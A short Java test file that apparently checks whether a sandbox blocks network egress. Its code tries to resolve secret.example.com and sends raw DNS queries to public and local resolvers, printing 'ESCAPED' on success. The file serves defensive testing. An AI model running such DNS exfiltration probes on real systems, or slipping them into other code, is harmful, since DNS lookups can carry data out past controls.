// verdict: OK
// stdout: denied
// never: a name is looked up outside, which would carry data out
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;

void main() {
  try {
    IO.println("ESCAPED " + InetAddress.getByName("secret.example.com"));
  } catch (java.io.IOException e) {
    IO.println("denied " + e);
  }
  for (var server : new String[] {"8.8.8.8", "127.0.0.53", "10.0.0.2"}) {
    try (var socket = new DatagramSocket()) {
      socket.setSoTimeout(200);
      socket.send(new DatagramPacket(new byte[] {0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 1}, 17, new InetSocketAddress(server, 53)));
      socket.receive(new DatagramPacket(new byte[512], 512));
      IO.println("ESCAPED " + server);
    } catch (java.io.IOException e) {
      IO.println("denied " + server + ": " + e.getMessage());
    }
  }
}
